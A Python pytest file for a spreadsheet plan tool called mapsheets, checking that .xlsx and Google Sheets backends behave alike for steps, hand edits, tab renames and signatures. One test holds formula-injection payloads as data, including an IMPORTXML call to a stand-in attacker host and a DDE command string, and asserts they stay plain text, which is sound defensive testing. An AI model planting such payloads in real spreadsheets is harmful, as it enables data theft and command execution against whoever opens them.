"""One contract, every backend: the same plan operations give the same results on .xlsx and Google.

Google runs against the test double; with MAPSHEETS_LIVE_GOOGLE_CREDENTIALS set (a service-account
key file) the same suite also runs against real Google.
"""

from __future__ import annotations

import os
from datetime import date, datetime

import pytest

from mapsheets import service
from mapsheets.adapters.gsheets import SHEETS_V4, GoogleWorkbook, make_client
from mapsheets.adapters.xlsx import XlsxWorkbook, load, save_atomic
from mapsheets.core.layout import workbook_spec
from mapsheets.errors import PlanFileError
from mapsheets.service.signoff import sign

TODAY = date(2026, 12, 1)


class XlsxHarness:
    def __init__(self, tmp_path):
        self.tmp_path = tmp_path
        self.count = 0

    def create(self, plan) -> str:
        self.count += 1
        path = self.tmp_path / f"plan{self.count}.xlsx"
        XlsxWorkbook(path).create(workbook_spec(plan))
        return str(path)

    def type_into(self, ref: str, tab: str, row: int, col: int, text: str) -> None:
        """A person typing into a cell (0-based row/col)."""
        book = load(ref, data_only=False)
        book[tab].cell(row=row + 1, column=col + 1).value = text
        save_atomic(book, ref)

    def rename_tab(self, ref: str, old: str, new: str) -> None:
        book = load(ref, data_only=False)
        book[old].title = new
        save_atomic(book, ref)


class GoogleHarness:
    def __init__(self, client):
        self.client = client

    def create(self, plan) -> str:
        book = GoogleWorkbook(None, self.client)
        book.create(workbook_spec(plan))
        return book.ref

    def _id(self, ref: str) -> str:
        return ref.rsplit("/", 1)[-1]

    def type_into(self, ref: str, tab: str, row: int, col: int, text: str) -> None:
        from mapsheets.core.layout import cell_ref

        self.client.request("put", f"{SHEETS_V4}/{self._id(ref)}/values/{cell_ref(tab, row, col)}",
                            params={"valueInputOption": "USER_ENTERED"}, json={"values": [[text]]})

    def rename_tab(self, ref: str, old: str, new: str) -> None:
        book = GoogleWorkbook(self._id(ref), self.client)
        book.read_grid()
        self.client.request("post", f"{SHEETS_V4}/{self._id(ref)}:batchUpdate", json={"requests": [
            {"updateSheetProperties": {"properties": {"sheetId": book._sheet_ids[old], "title": new},
                                       "fields": "title"}}]})


@pytest.fixture(params=["xlsx", "google", "google-live"])
def backend(request, tmp_path, monkeypatch):
    if request.param == "xlsx":
        return XlsxHarness(tmp_path)
    if request.param == "google":
        double = request.getfixturevalue("google_env")
        from google.oauth2.credentials import Credentials

        return GoogleHarness(make_client(Credentials(token="test-token-not-secret"), double.root))
    key = os.environ.get("MAPSHEETS_LIVE_GOOGLE_CREDENTIALS")
    if not key:
        pytest.skip("live Google: set MAPSHEETS_LIVE_GOOGLE_CREDENTIALS to a service-account key file")
    monkeypatch.setenv("MAPSHEETS_GOOGLE_CREDENTIALS", key)
    monkeypatch.delenv("MAPSHEETS_GOOGLE_API_ROOT", raising=False)
    return GoogleHarness(GoogleWorkbook.from_env(None).client)


def _steps_row(view, step_id):
    return view.parsed.location.step_rows[step_id]


def test_new_plan_reads_back_identical(backend, plan):
    ref = backend.create(plan)
    view = service.read_plan(ref, today=TODAY)
    assert view.warnings == []
    assert view.plan.to_dict() == plan.to_dict()


def test_add_step_appends_and_leaves_other_rows_alone(backend, plan):
    ref = backend.create(plan)
    dep = plan.steps[2].id
    step = service.add_step(ref, title="Security questionnaire", side="buyer", owners=["sec@acme.example"],
                            due=date(2027, 1, 20), phase="Technical validation", new_phase=True,
                            depends_on=[dep.lower()],
                            today=TODAY)
    view = service.read_plan(ref, today=TODAY)
    assert [s.to_dict() for s in view.plan.steps[:-1]] == [s.to_dict() for s in plan.steps]
    added = view.plan.steps[-1]
    assert added.to_dict() == step.to_dict()
    assert (added.side, added.owners, added.due, added.depends_on) == ("buyer", ["sec@acme.example"],
                                                                       date(2027, 1, 20), [dep])


def test_formula_looking_text_stays_text(backend, plan):
    ref = backend.create(plan)
    nasty = ['=IMPORTXML("http://evil.example","//a")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]
    for title in nasty:
        service.add_step(ref, title=title, notes=title, today=TODAY)
    titles = [s.title for s in service.read_plan(ref, today=TODAY).plan.steps[-3:]]
    assert titles == nasty


def test_signature_goes_stale_when_plan_changes(backend, plan):
    ref = backend.create(plan)
    sign(ref, name="Jane Doe", email="jane@acme.example", side="buyer", now=datetime(2026, 12, 2, 9, 30))
    signed = service.read_plan(ref, today=TODAY).to_dict()["signatures"]
    assert [(s["email"], s["status"]) for s in signed] == [("jane@acme.example", "valid")]
    assert signed[0]["signed_at"] == "2026-12-02T09:30:00"
    service.add_step(ref, title="One more thing", today=TODAY)
    sign(ref, name="Sam Seller", email="sam@globex.example", side="seller", now=datetime(2026, 12, 3, 9, 0))
    after = service.read_plan(ref, today=TODAY).to_dict()["signatures"]
    assert [(s["email"], s["status"]) for s in after] == [("jane@acme.example", "stale"),
                                                           ("sam@globex.example", "valid")]


def test_hand_edits_read_the_same_everywhere(backend, plan):
    ref = backend.create(plan)
    view = service.read_plan(ref, today=TODAY)
    cols = view.parsed.location.columns
    first, second, third = (_steps_row(view, s.id) for s in plan.steps[:3])
    backend.type_into(ref, "Plan", first, cols["Status"], "WIP")
    backend.type_into(ref, "Plan", second, cols["Due"], "3/15/2027")
    backend.type_into(ref, "Plan", third, cols["Due"], "next week")
    backend.type_into(ref, "Plan", third, cols["Owners"], "ann@acme.example; bob@acme.example")
    after = service.read_plan(ref, today=TODAY)
    steps = after.plan.steps
    assert steps[0].status == "in progress"
    assert steps[1].due == date(2027, 3, 15)
    assert steps[2].due is None and steps[2].owners == ["ann@acme.example", "bob@acme.example"]
    assert [w.to_dict() for w in after.warnings] == [
        {"cell": f"Plan!F{third + 1}", "message": '"next week" is not a date'}]
    # The cell people typed is kept through the next write.
    service.add_step(ref, title="After the edit", today=TODAY)
    again = service.read_plan(ref, today=TODAY)
    assert [w.to_dict() for w in again.warnings] == [w.to_dict() for w in after.warnings]


def test_renamed_plan_tab_is_still_found(backend, plan):
    ref = backend.create(plan)
    backend.rename_tab(ref, "Plan", "Our plan")
    view = service.read_plan(ref, today=TODAY)
    assert [s.id for s in view.plan.steps] == [s.id for s in plan.steps]
    service.add_step(ref, title="Still appends", today=TODAY)
    assert service.read_plan(ref, today=TODAY).plan.steps[-1].title == "Still appends"


def test_plan_without_steps_table_is_one_clear_error(backend, plan):
    ref = backend.create(plan)
    view = service.read_plan(ref, today=TODAY)
    backend.type_into(ref, "Plan", view.parsed.location.header_row, view.parsed.location.columns["Step"], "")
    with pytest.raises(PlanFileError, match="no steps table found"):
        service.read_plan(ref, today=TODAY)


def test_sign_checks_the_store_before_the_sheet_and_signs_once(backend, plan, tmp_path):
    from mapsheets.adapters.store import Store
    from mapsheets.errors import StoreError
    from mapsheets.service.revisions import canonical_ref

    ref = backend.create(plan)
    path = tmp_path / "state.db"
    Store(f"sqlite:///{path}").close()
    read_only = f"sqlite:///file:{path}?mode=ro&uri=true"  # unwritable even for root, unlike chmod
    with pytest.raises(StoreError, match="readonly"):
        sign(ref, name="Jane Doe", email="jane@acme.example", side="buyer", now=datetime(2026, 12, 2, 9, 30),
             store_url=read_only, record=True)
    assert service.read_plan(ref, today=TODAY).plan.signatures == []  # the sheet was not touched

    # An earlier attempt that got as far as the sheet, then retries: one row, and the store catches up.
    first = sign(ref, name="Jane Doe", email="jane@acme.example", side="buyer", now=datetime(2026, 12, 2, 9, 30))
    assert not first.already
    for hour in (10, 11):
        again = sign(ref, name="Jane Doe", email="Jane@acme.example", side="buyer",
                     now=datetime(2026, 12, 2, hour), store_url=f"sqlite:///{path}", record=True)
        assert again.already and again.signed_at == datetime(2026, 12, 2, 9, 30)
    signed = service.read_plan(ref, today=TODAY).plan.signatures
    assert [(s.email, s.signed_at) for s in signed] == [("jane@acme.example", datetime(2026, 12, 2, 9, 30))]
    with Store(f"sqlite:///{path}") as store:
        [kept] = store.signatures.of(canonical_ref(ref))
        assert (kept.email, kept.fingerprint) == ("jane@acme.example", signed[0].fingerprint)
        assert [e.kind for e in store.audit.events(canonical_ref(ref))] == ["signed"]
